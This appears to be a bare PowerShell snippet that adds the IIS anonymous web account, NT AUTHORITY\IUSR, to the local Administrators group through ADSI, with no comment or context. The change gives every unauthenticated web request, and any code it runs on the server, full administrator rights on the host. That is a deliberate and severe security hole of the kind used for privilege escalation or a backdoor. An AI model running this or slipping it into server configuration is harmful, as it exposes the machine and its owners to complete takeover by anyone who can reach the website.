$group = [ADSI]'WinNT://./Administrators,group'
$path = 'WinNT://NT AUTHORITY/IUSR'
if (-not $group.IsMember($path)) { $group.Add($path) }
